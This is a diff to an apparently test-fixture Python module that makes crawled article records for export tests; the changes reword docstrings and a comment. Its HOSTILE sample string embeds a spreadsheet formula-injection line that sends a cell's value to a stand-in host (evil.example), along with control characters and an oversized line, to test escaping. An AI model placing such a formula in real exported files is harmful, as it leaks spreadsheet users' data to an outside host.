@@ -1,4 +1,4 @@
-"""Articles to export, as the records that a crawl writes."""
+"""Make articles to export, as the records that a crawl writes."""
 
 from __future__ import annotations
 
@@ -13,7 +13,7 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 RUN = "20260301T120000Z-0a1b2c"
-# What the web may put into a text: quotes, line ends of all kinds, NUL, a formula, other planes, no end of one line.
+# What a web page may put into a text: quotes, all line ends, NUL, a formula, astral characters, an endless line.
 HOSTILE = (
     '=HYPERLINK("https://evil.example/?"&A1)\n\nShe said "so",\tand; left\r\nwith NUL \0 and \x1f, '
     "a lone \r, \u2028 and \U0001f4a5.\n\n" + "x" * 300_000 + '\\"'
@@ -21,7 +21,7 @@ HOSTILE = (
 
 
 def record(path: str, text: str | None = None, **changes: Any) -> dict[str, Any]:
-    """The record of https://example.com/<path>; valid, as JSON."""
+    """Return a valid record of https://example.com/<path>, as JSON."""
     url = f"https://example.com/{path}"
     text = f"What {path} says.\n\nAnd more." if text is None else text
     fields: dict[str, Any] = empty_values(Article) | {
@@ -51,12 +51,12 @@ def record(path: str, text: str | None = None, **changes: Any) -> dict[str, Any]
 
 
 def bare(path: str, text: str | None = None) -> dict[str, Any]:
-    """A record with nothing in it that a record may lack."""
+    """Return a record in which every optional field is empty."""
     return record(path, text, **empty_values(Article))
 
 
 def save(path: Path, *records: dict[str, Any] | bytes) -> Path:
-    """A file of records, and of other lines as they are."""
+    """Write a file of records, and of other lines unchanged."""
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_bytes(b"".join((r if isinstance(r, bytes) else orjson.dumps(r)) + b"\n" for r in records))
     return path
